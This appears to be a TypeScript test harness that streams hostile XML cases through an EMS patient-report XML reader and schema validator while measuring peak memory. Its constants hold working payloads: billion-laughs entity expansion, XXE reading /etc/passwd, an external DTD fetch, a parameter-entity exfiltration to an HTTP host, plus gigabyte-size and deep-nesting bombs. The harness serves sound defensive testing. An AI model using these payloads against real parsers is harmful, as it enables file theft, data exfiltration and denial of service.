/**
 * Runs one hostile XML case in a process of its own, so that its peak memory can be read alone:
 * `node hostile-xml-case.js CASE` prints one JSON line with what the reader yielded (or threw) and the
 * process's resident set size before the case and at its peak (`process.resourceUsage().maxRSS`).
 * The inputs are generated as a stream of chunks and never materialized.
 */
import { createNemsisSchema } from '../../src/intake/adapters/nemsis/nemsis-schema.js';
import { parseXmlDocument, readXmlRecords, XmlRefusal } from '../../src/platform/xml/xml-reader.js';

const MB = 1024 * 1024;
/** The size of the element the large cases stream: one gigabyte, never held. */
const GIGABYTE = 1024 * MB;
const CHUNK = 64 * 1024;

/** Yields `head`, then `size` bytes of `unit` repeated, then `tail`, in 64 KB chunks. */
async function* generated(head: string, unit: string, size: number, tail: string): AsyncGenerator<Buffer> {
  yield Buffer.from(head);
  const chunk = Buffer.from(unit.repeat(Math.ceil(CHUNK / unit.length)));
  let left = size;
  while (left > 0) {
    const part = left >= chunk.length ? chunk : chunk.subarray(0, left);
    left -= part.length;
    yield part;
  }
  yield Buffer.from(tail);
}

async function* text(document: string): AsyncGenerator<string> {
  yield document;
}

const LAUGHS = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE lolz [',
  ' <!ENTITY lol "lol">',
  ...Array.from(
    { length: 9 },
    (_, level) => ` <!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`,
  ),
  ']>',
  '<EMSDataSet><Header><PatientCareReport><eRecord><eRecord.01>&lol9;</eRecord.01></eRecord></PatientCareReport></Header></EMSDataSet>',
].join('\n');

const EXTERNAL_FILE = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<EMSDataSet><Header><PatientCareReport><eNarrative.01>&xxe;</eNarrative.01></PatientCareReport></Header></EMSDataSet>',
].join('\n');

const EXTERNAL_HTTP = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE r SYSTEM "http://127.0.0.1:9/evil.dtd">',
  '<EMSDataSet><Header><PatientCareReport><eNarrative.01>&xxe;</eNarrative.01></PatientCareReport></Header></EMSDataSet>',
].join('\n');

const PARAMETER_ENTITIES = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE r [',
  ' <!ENTITY % file SYSTEM "file:///etc/passwd">',
  ' <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'http://127.0.0.1:9/?%file;\'>">',
  ' %wrap; %send;',
  ']>',
  '<EMSDataSet/>',
].join('\n');

const RECORD = '<PatientCareReport><eRecord><eRecord.01>after</eRecord.01></eRecord></PatientCareReport>';

type Input = AsyncIterable<Buffer | string>;

/** Each case: the input it streams through `readXmlRecords`. */
const cases: Record<string, () => Input> = {
  'billion-laughs': () => text(LAUGHS),
  'external-file': () => text(EXTERNAL_FILE),
  'external-http': () => text(EXTERNAL_HTTP),
  'parameter-entities': () => text(PARAMETER_ENTITIES),
  // 1 GB of text in one element of a record: the record is skipped, the next one read.
  'gigabyte-text': () =>
    generated(
      '<EMSDataSet><Header><PatientCareReport><eNarrative.01>',
      'overdose ',
      GIGABYTE,
      `</eNarrative.01></PatientCareReport>${RECORD}</Header></EMSDataSet>`,
    ),
  // 1 GB of attribute value in one start tag of a record.
  'gigabyte-attribute': () =>
    generated(
      '<EMSDataSet><Header><PatientCareReport><eNarrative.01 note="',
      'x',
      GIGABYTE,
      `"/></PatientCareReport>${RECORD}</Header></EMSDataSet>`,
    ),
  // 1 GB of text outside any record: dropped as it passes.
  'gigabyte-outside': () =>
    generated(
      '<EMSDataSet><Header><DemographicGroup>',
      'lol ',
      GIGABYTE,
      `</DemographicGroup>${RECORD}</Header></EMSDataSet>`,
    ),
  // 1 GB of comment inside a record.
  'gigabyte-comment': () =>
    generated(
      '<EMSDataSet><Header><PatientCareReport><!--',
      '-x',
      GIGABYTE,
      `--></PatientCareReport>${RECORD}</Header></EMSDataSet>`,
    ),
  // Elements nested ten million deep inside a record, then closed.
  'depth-bomb': () =>
    (async function* () {
      yield* generated('<EMSDataSet><Header><PatientCareReport>', '<a>', 30 * MB, '');
      yield* generated('', '</a>', 40 * MB, `</PatientCareReport>${RECORD}</Header></EMSDataSet>`);
    })(),
  // Elements nested ten million deep and never closed.
  'depth-bomb-unclosed': () => generated('<EMSDataSet>', '<a>', 30 * MB, ''),
};

/** What a case yielded, without the records' trees. */
interface Outcome {
  items: {
    kind: string;
    code?: string;
    index: number | null;
    element: string | null;
    message?: string;
    id?: string;
  }[];
  baselineMb: number;
  peakMb: number;
}

function maxRssMb(): number {
  return process.resourceUsage().maxRSS / 1024;
}

async function run(name: string): Promise<Outcome> {
  const makeInput = cases[name];
  const baselineMb = maxRssMb();
  const items: Outcome['items'] = [];
  if (makeInput) {
    for await (const item of readXmlRecords(makeInput(), { recordElement: 'PatientCareReport' })) {
      items.push(
        item.kind === 'record'
          ? {
              kind: 'record',
              index: item.index,
              element: item.element.name,
              id: item.xml.match(/<eRecord\.01>([^<]*)</)?.[1],
            }
          : {
              kind: 'error',
              code: item.code,
              index: item.index,
              element: item.element,
              message: item.message,
            },
      );
    }
  } else if (name === 'document-laughs' || name === 'document-external') {
    try {
      parseXmlDocument(name === 'document-laughs' ? LAUGHS : EXTERNAL_FILE);
      items.push({ kind: 'parsed', index: null, element: null });
    } catch (error) {
      if (!(error instanceof XmlRefusal)) throw error;
      items.push({
        kind: 'error',
        code: error.code,
        index: null,
        element: error.element,
        message: error.message,
      });
    }
  } else if (name === 'schema-laughs' || name === 'schema-external') {
    // The validator's own parser (libxml2) given hostile record text directly, not through the reader.
    const schema = await createNemsisSchema();
    const hostile = (name === 'schema-laughs' ? LAUGHS : EXTERNAL_FILE).replace(/^<\?xml[^>]*>\n/, '');
    for (const problem of schema.validate(hostile)) {
      items.push({ kind: 'problem', index: null, element: problem.element, message: problem.message });
    }
    schema.close();
  } else {
    throw new Error(`no hostile case named ${name}`);
  }
  return { items, baselineMb, peakMb: maxRssMb() };
}

const name = process.argv[2] ?? '';
process.stdout.write(`${JSON.stringify(await run(name))}\n`);
